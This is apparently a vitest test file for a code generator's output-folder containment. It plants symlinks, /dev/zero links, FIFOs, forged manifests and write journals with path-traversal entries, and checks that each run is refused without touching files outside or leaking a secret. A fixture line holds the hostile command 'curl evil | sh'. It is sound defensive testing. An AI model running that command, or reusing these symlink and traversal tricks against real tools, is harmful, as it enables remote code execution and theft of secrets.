/**
 * `generate` writes only inside its output folder (generator/output-folder.ts). Each attack plants
 * something in the output folder of a sandbox, the way a cloned repository could ship it (a link,
 * a manifest, a write journal), runs `generate`, and requires the sandbox outside the output folder
 * to hash exactly as before (names, kinds, bytes, modes, mtimes, link targets), the run to stop
 * with an `unsafe-output-path` diagnostic (exit 1, no stack trace) and no secret to be printed.
 * Runs go through the CLI's own `main`, and the ones that could hang (links to /dev/zero) through
 * the built binary, with a time limit.
 */
import { spawnSync } from 'node:child_process';
import { createHash } from 'node:crypto';
import { cpSync, existsSync, lstatSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, readlinkSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join, relative } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { main } from '../generator/cli.js';
import { generate as generatePackage } from '../generator/generate.js';
import { Incremental } from '../generator/incremental.js';
import { OutputFolder, OutputRefused } from '../generator/output-folder.js';
import { JOURNAL, MANIFEST, sha256 } from '../generator/write.js';
import { fixture } from './support/corpus.js';

const BIN = 'generator/dist/generator/bin.js';
const root = mkdtempSync(join(tmpdir(), 'contractgen-contain-'));
afterAll(() => rmSync(root, { recursive: true, force: true }));

const SECRET = `SECRET-${createHash('sha256').update(root).digest('hex').slice(0, 16)}`;
/** A clean package of the contract, copied into each sandbox's output folder. */
const clean = join(root, 'clean');

beforeAll(async () => {
  const run = await cli(['generate', '--contract', fixture('problem-json'), '--out', clean]);
  expect(run.code, run.err).toBe(0);
}, 60_000);

interface Sandbox {
  readonly dir: string;
  readonly contract: string;
  readonly out: string;
  readonly outside: string;
}

let sandboxes = 0;

/** A sandbox: the contract and an `outside/` tree beside `out/`, a copy of the clean package. */
function sandbox(): Sandbox {
  const dir = join(root, `sandbox-${++sandboxes}`);
  const outside = join(dir, 'outside');
  mkdirSync(join(outside, 'pkg'), { recursive: true });
  writeFileSync(join(outside, 'secret.txt'), `${SECRET}\n`);
  writeFileSync(join(outside, 'bashrc'), 'export PATH=/usr/bin\n');
  writeFileSync(join(outside, 'pkg', 'keep.txt'), 'keep\n');
  // What a planted journal would move onto bashrc, were it followed outside.
  writeFileSync(join(outside, 'bashrc.0000.contractgen-tmp'), 'curl evil | sh\n');
  const contract = join(dir, 'contract.yaml');
  cpSync(fixture('problem-json'), contract);
  const out = join(dir, 'out');
  cpSync(clean, out, { recursive: true });
  return { dir, contract, out, outside };
}

/**
 * Every entry under `dir` except the folders `skip`, by what lstat sees (no link is followed): its
 * kind, mode, size, mtime, and the bytes of a file or the target of a link.
 */
function treeHash(dir: string, skip: readonly string[]): string {
  const hash = createHash('sha256');
  const walk = (d: string) => {
    for (const name of readdirSync(d).sort()) {
      const full = join(d, name);
      if (skip.includes(full)) continue;
      const stat = lstatSync(full);
      hash.update(`${relative(dir, full)} ${stat.mode} ${stat.size} ${stat.mtimeMs}\n`);
      if (stat.isSymbolicLink()) hash.update(`-> ${readlinkSync(full)}\n`);
      else if (stat.isFile()) hash.update(readFileSync(full));
      else if (stat.isDirectory()) walk(full);
    }
  };
  walk(dir);
  return hash.digest('hex');
}

async function cli(argv: readonly string[]): Promise<{ code: number; out: string; err: string }> {
  const out: string[] = [];
  const err: string[] = [];
  const code = await main(argv, { out: (l) => out.push(l), err: (l) => err.push(l), cwd: process.cwd() });
  return { code, out: out.join('\n'), err: err.join('\n') };
}

function generate(box: Sandbox) {
  return cli(['generate', '--contract', box.contract, '--out', box.out]);
}

/** The built CLI in a child process: a run that would read a device forever is stopped, not waited for. */
function generateBinary(box: Sandbox, out = box.out) {
  const run = spawnSync(process.execPath, [BIN, 'generate', '--contract', box.contract, '--out', out], { encoding: 'utf8', timeout: 30_000 });
  return { code: run.status, signal: run.signal, out: run.stdout, err: run.stderr };
}

type Manifest = { generator: string; contract: { file: string; sha256: string }; files: Record<string, string> };

function manifestOf(box: Sandbox): Manifest {
  return JSON.parse(readFileSync(join(box.out, MANIFEST), 'utf8')) as Manifest;
}

/** Plants a manifest claiming `files` besides the real ones; a changed contract hash makes the run plan a write. */
function plantManifest(box: Sandbox, files: Record<string, string>): void {
  const manifest = manifestOf(box);
  writeFileSync(join(box.out, MANIFEST), JSON.stringify({ ...manifest, contract: { ...manifest.contract, sha256: 'planted' }, files: { ...manifest.files, ...files } }));
}

/** Runs `attack` in the sandbox and requires everything outside the output folder to be as it was. */
async function outsideUnchanged<T>(box: Sandbox, attack: () => Promise<T> | T, skip: readonly string[] = [box.out]): Promise<T> {
  const before = treeHash(box.dir, skip);
  const result = await attack();
  expect(treeHash(box.dir, skip), 'the sandbox outside the output folder changed').toBe(before);
  return result;
}

function expectRefused(run: { code: number | null; out: string; err: string }, where: string): void {
  expect(run.code, run.err).toBe(1);
  expect(run.err).toMatch(new RegExp(`${where.replace(/[.*+?^${}()|[\]\\]/g, '\\$&')}: .*\\[unsafe-output-path\\]`));
  expect(run.err).toMatch(/generation stopped: contractgen works only inside/);
  expect(run.err).not.toMatch(/internal error|\n\s+at /);
  expect(`${run.out}${run.err}`).not.toContain(SECRET);
}

describe('links in the output folder are refused, never followed', () => {
  it('a linked folder in the middle of a path (out/src -> outside): nothing is written there', async () => {
    const box = sandbox();
    rmSync(join(box.out, 'src'), { recursive: true });
    symlinkSync(join(box.outside, 'pkg'), join(box.out, 'src'));
    // No manifest: every generated file is new, so the run would write them all through the link.
    rmSync(join(box.out, MANIFEST));
    for (const path of readdirSync(box.out)) if (path !== 'src') rmSync(join(box.out, path), { recursive: true });
    const run = await outsideUnchanged(box, () => generate(box));
    expectRefused(run, join(box.out, 'src'));
    expect(readdirSync(join(box.outside, 'pkg'))).toEqual(['keep.txt']);
    // --check reads the same paths, through the same folder.
    expectRefused(await outsideUnchanged(box, () => cli(['generate', '--check', '--contract', box.contract, '--out', box.out])), join(box.out, 'src'));
  });

  it('in a watch session, a file known from the last run is not trusted past a link planted since', async () => {
    const box = sandbox();
    rmSync(box.out, { recursive: true });
    const session = { contractFile: box.contract, outDir: box.out, check: false, incremental: new Incremental() };
    expect((await generatePackage(session)).kind).toBe('written');
    // The folder the session wrote moves outside, and a link takes its place.
    cpSync(join(box.out, 'src'), join(box.outside, 'pkg', 'src'), { recursive: true });
    rmSync(join(box.out, 'src'), { recursive: true });
    symlinkSync(join(box.outside, 'pkg', 'src'), join(box.out, 'src'));
    writeFileSync(box.contract, readFileSync(box.contract, 'utf8').replace('summary: Read one item.', 'summary: Fetch one item.'));
    const outcome = await outsideUnchanged(box, () => generatePackage(session));
    expect(outcome.kind === 'refused' ? outcome.diagnostics.map((d) => [d.code, d.file]) : outcome).toEqual([['unsafe-output-path', join(box.out, 'src')]]);
  });

  it('a regenerate through a linked folder (out/dist -> outside) with the manifest claiming its files', async () => {
    const box = sandbox();
    cpSync(join(box.out, 'dist'), join(box.outside, 'pkg', 'dist'), { recursive: true });
    rmSync(join(box.out, 'dist'), { recursive: true });
    symlinkSync(join(box.outside, 'pkg', 'dist'), join(box.out, 'dist'));
    writeFileSync(box.contract, readFileSync(box.contract, 'utf8').replace('summary: Read one item.', 'summary: Fetch one item.'));
    expectRefused(await outsideUnchanged(box, () => generate(box)), join(box.out, 'dist'));
  });

  it('a link as the last step (out/src/index.ts -> a secret outside), owned by a planted manifest: refused, the secret never read out', async () => {
    const box = sandbox();
    rmSync(join(box.out, 'src', 'index.ts'));
    symlinkSync(join(box.outside, 'secret.txt'), join(box.out, 'src', 'index.ts'));
    plantManifest(box, { 'src/index.ts': sha256(`${SECRET}\n`) });
    const run = await outsideUnchanged(box, () => generate(box));
    expectRefused(run, join(box.out, 'src', 'index.ts'));
    expect(lstatSync(join(box.out, 'src', 'index.ts')).isSymbolicLink()).toBe(true);
    for (const name of readdirSync(box.out, { recursive: true, encoding: 'utf8' })) {
      const full = join(box.out, name);
      if (lstatSync(full).isFile()) expect(readFileSync(full, 'utf8'), name).not.toContain(SECRET);
    }
  });

  it.skipIf(!existsSync('/dev/zero'))('links to a device that never ends (a generated file, the manifest, the journal): refused at once, through the binary', () => {
    for (const planted of ['src/index.ts', MANIFEST, JOURNAL]) {
      const box = sandbox();
      rmSync(join(box.out, planted), { force: true });
      symlinkSync('/dev/zero', join(box.out, planted));
      const started = Date.now();
      const run = generateBinary(box);
      expect(run.signal, `${planted}: the run had to be killed`).toBeNull();
      expectRefused(run, join(box.out, planted));
      expect(Date.now() - started).toBeLessThan(20_000);
    }
  }, 120_000);

  it('the manifest as a link to a manifest outside that claims a file through a linked folder', async () => {
    const box = sandbox();
    symlinkSync(box.outside, join(box.out, 'link'));
    const manifest = manifestOf(box);
    writeFileSync(join(box.outside, 'manifest.json'), JSON.stringify({ ...manifest, contract: { ...manifest.contract, sha256: 'planted' }, files: { ...manifest.files, 'link/secret.txt': sha256(`${SECRET}\n`) } }));
    rmSync(join(box.out, MANIFEST));
    symlinkSync(join(box.outside, 'manifest.json'), join(box.out, MANIFEST));
    expectRefused(await outsideUnchanged(box, () => generate(box)), join(box.out, MANIFEST));
  });

  it('a FIFO at a generated path is a file in the way, never opened: the run does not block', () => {
    const box = sandbox();
    rmSync(join(box.out, MANIFEST));
    rmSync(join(box.out, 'README.md'));
    const fifo = spawnSync('mkfifo', [join(box.out, 'README.md')]);
    if (fifo.status !== 0) return;
    const run = generateBinary(box);
    expect(run.signal).toBeNull();
    expect(run.code).toBe(1);
    expect(run.err).toMatch(/not written by contractgen[\s\S]*README\.md/);
  }, 60_000);
});

describe('a planted manifest can at most rewrite or remove files inside the folder', () => {
  it('claiming a file outside through a linked folder (link/secret.txt, its true hash): refused, nothing removed', async () => {
    const box = sandbox();
    symlinkSync(box.outside, join(box.out, 'link'));
    plantManifest(box, { 'link/secret.txt': sha256(`${SECRET}\n`) });
    expectRefused(await outsideUnchanged(box, () => generate(box)), join(box.out, 'link'));
    expect(readFileSync(join(box.outside, 'secret.txt'), 'utf8')).toBe(`${SECRET}\n`);
  });

  it('claiming paths that leave the folder (../, absolute, backslashes, a drive): refused by name before anything is read', async () => {
    const claims = ['../outside/secret.txt', 'src/../../outside/secret.txt', '..\\outside\\secret.txt', 'C:/outside/secret.txt', './package.json', 'src//index.ts'];
    for (const claim of claims) {
      const box = sandbox();
      plantManifest(box, { [claim]: sha256(`${SECRET}\n`) });
      const run = await outsideUnchanged(box, () => generate(box));
      expectRefused(run, join(box.out, MANIFEST));
      expect(run.err).toContain(`names '${claim}'`);
    }
    const box = sandbox();
    plantManifest(box, { [join(box.outside, 'secret.txt')]: sha256(`${SECRET}\n`) });
    expectRefused(await outsideUnchanged(box, () => generate(box)), join(box.out, MANIFEST));
  });

  it('claiming a foreign file inside the folder: it is removed (allowed), nothing outside changes', async () => {
    const box = sandbox();
    writeFileSync(join(box.out, 'NOTES.md'), 'mine\n');
    plantManifest(box, { 'NOTES.md': sha256('mine\n') });
    const run = await outsideUnchanged(box, () => generate(box));
    expect(run.code, run.err).toBe(0);
    expect(existsSync(join(box.out, 'NOTES.md'))).toBe(false);
  });
});

describe('a planted write journal is rolled forward only inside the folder', () => {
  function plantJournal(box: Sandbox, journal: unknown): void {
    writeFileSync(join(box.out, JOURNAL), JSON.stringify(journal));
  }

  it('renames and removals through a linked folder: refused before anything moves', async () => {
    const box = sandbox();
    symlinkSync(box.outside, join(box.out, 'link'));
    plantJournal(box, { renames: [{ from: 'link/bashrc.0000.contractgen-tmp', to: 'link/bashrc' }], removes: ['link/secret.txt'], manifest: readFileSync(join(box.out, MANIFEST), 'utf8') });
    expectRefused(await outsideUnchanged(box, () => generate(box)), join(box.out, 'link'));
    expect(existsSync(join(box.out, JOURNAL))).toBe(true);
  });

  it('one path outside among paths inside: refused before the first rename inside the folder', async () => {
    const box = sandbox();
    const before = readFileSync(join(box.out, 'package.json'), 'utf8');
    writeFileSync(join(box.out, 'package.json.0000.contractgen-tmp'), '{"name":"planted"}\n');
    plantJournal(box, { renames: [{ from: 'package.json.0000.contractgen-tmp', to: 'package.json' }], removes: ['../outside/secret.txt'], manifest: '{}' });
    expectRefused(await outsideUnchanged(box, () => generate(box)), join(box.out, JOURNAL));
    expect(readFileSync(join(box.out, 'package.json'), 'utf8')).toBe(before);
  });

  it('paths that leave the folder, relative or absolute (as a journal of an older contractgen held them): refused', async () => {
    for (const [from, to, remove] of [
      ['../outside/bashrc.0000.contractgen-tmp', '../outside/bashrc', '../outside/secret.txt'],
      ['src/index.ts.0000.contractgen-tmp', 'src/index.ts', '../outside/secret.txt'],
    ] as const) {
      const box = sandbox();
      plantJournal(box, { renames: [{ from, to }], removes: [remove], manifest: '{}' });
      expectRefused(await outsideUnchanged(box, () => generate(box)), join(box.out, JOURNAL));
    }
    const box = sandbox();
    const abs = (p: string) => join(box.outside, p);
    plantJournal(box, { renames: [{ from: abs('bashrc.0000.contractgen-tmp'), to: abs('bashrc') }], removes: [abs('secret.txt')], manifest: '{}' });
    expectRefused(await outsideUnchanged(box, () => generate(box)), join(box.out, JOURNAL));
  });

  it('the journal as a link to a journal outside: refused unread', async () => {
    const box = sandbox();
    writeFileSync(join(box.outside, 'journal.json'), JSON.stringify({ renames: [], removes: ['package.json'], manifest: '{}' }));
    symlinkSync(join(box.outside, 'journal.json'), join(box.out, JOURNAL));
    expectRefused(await outsideUnchanged(box, () => generate(box)), join(box.out, JOURNAL));
    expect(existsSync(join(box.out, 'package.json'))).toBe(true);
  });
});

describe('files are created exclusively, never through what is there', () => {
  it('a link planted at the very name of a temp file is not written through', async () => {
    const box = sandbox();
    const folder = OutputFolder.open(box.out);
    symlinkSync(join(box.outside, 'bashrc'), join(box.out, 'src', 'index.ts.planted.contractgen-tmp'));
    const failure = await outsideUnchanged(box, () => {
      try {
        folder.create('src/index.ts.planted.contractgen-tmp', Buffer.from('pwned\n'));
        return undefined;
      } catch (e) {
        return e;
      }
    });
    expect(String(failure)).toMatch(/EEXIST/);
    // A stale temp left as a link is no temp to delete: recovery leaves it, and the run does not trip on it.
    expect((await outsideUnchanged(box, () => generate(box))).code).toBe(0);
  });

  it('temp names are fresh each time', () => {
    const folder = OutputFolder.open(join(root, 'fresh'));
    expect(folder.temp('src/index.ts')).not.toBe(folder.temp('src/index.ts'));
    expect(folder.temp('src/index.ts')).toMatch(/^src\/index\.ts\.[0-9a-f]{12}\.contractgen-tmp$/);
  });

  it('reads, hashes, renames and deletions refuse a link at the last step too', async () => {
    const box = sandbox();
    const folder = OutputFolder.open(box.out);
    symlinkSync(join(box.outside, 'secret.txt'), join(box.out, 'planted'));
    await outsideUnchanged(box, () => {
      expect(() => folder.sha256('planted')).toThrow(OutputRefused);
      expect(() => folder.compare('planted', `${SECRET}\n`)).toThrow(OutputRefused);
      expect(() => folder.remove('planted')).toThrow(OutputRefused);
      expect(() => folder.rename('package.json', 'planted')).toThrow(OutputRefused);
      expect(() => folder.writeAtomic('planted', 'x')).toThrow(OutputRefused);
    });
  });
});

describe('--out as a symbolic link is resolved once, and said', () => {
  it('--out itself a link: a note names the real folder, the package is written there, the link stays (through the binary)', () => {
    const box = sandbox();
    const real = join(box.dir, 'real');
    mkdirSync(real);
    const link = join(box.dir, 'out-link');
    symlinkSync(real, link);
    const before = treeHash(box.dir, [box.out, real]);
    const run = generateBinary(box, link);
    expect(run.code, run.err).toBe(0);
    // The link as given (here an absolute path).
    expect(run.err.trim().split('\n')).toEqual([`${link}: a symbolic link leads to ${real}; the package is written there`]);
    expect(run.out).toMatch(/files written, 0 removed/);
    expect(existsSync(join(real, 'package.json'))).toBe(true);
    expect(lstatSync(link).isSymbolicLink()).toBe(true);
    expect(treeHash(box.dir, [box.out, real])).toBe(before);
  });

  it('--out behind a linked parent: resolved the same way; a folder with no link gets no note', async () => {
    const box = sandbox();
    mkdirSync(join(box.dir, 'parent'));
    symlinkSync(join(box.dir, 'parent'), join(box.dir, 'parent-link'));
    const run = await outsideUnchanged(box, () => cli(['generate', '--contract', box.contract, '--out', join(box.dir, 'parent-link', 'pkg')]), [box.out, join(box.dir, 'parent')]);
    expect(run.code, run.err).toBe(0);
    expect(run.err).toBe(`${join(box.dir, 'parent-link', 'pkg')}: a symbolic link leads to ${join(box.dir, 'parent', 'pkg')}; the package is written there`);
    expect(existsSync(join(box.dir, 'parent', 'pkg', 'package.json'))).toBe(true);
    const again = await generate(box);
    expect(again.err).toBe('');
  });

  it('--out a link that leads nowhere: refused, nothing created at its target', async () => {
    const box = sandbox();
    const link = join(box.dir, 'dangling');
    symlinkSync(join(box.dir, 'nowhere'), link);
    const run = await outsideUnchanged(box, () => cli(['generate', '--contract', box.contract, '--out', link]));
    expectRefused(run, link);
    expect(existsSync(join(box.dir, 'nowhere'))).toBe(false);
  });
});

describe('legitimate runs are unchanged', () => {
  it('a regenerate after an edit writes, the next run is a no-op, and nothing outside changes', async () => {
    const box = sandbox();
    writeFileSync(box.contract, readFileSync(box.contract, 'utf8').replace('summary: Read one item.', 'summary: Fetch one item.'));
    const written = await outsideUnchanged(box, () => generate(box));
    expect(written.code, written.err).toBe(0);
    expect(written.out).toMatch(/[1-9]\d* files? written/);
    expect(readFileSync(join(box.out, 'src', 'client.ts'), 'utf8')).toContain('Fetch one item.');
    const again = await outsideUnchanged(box, () => generate(box));
    expect(again.out).toMatch(/up to date/);
    expect(readdirSync(box.out, { recursive: true, encoding: 'utf8' }).filter((p) => p.endsWith('.contractgen-tmp') || p === JOURNAL)).toEqual([]);
  });
});
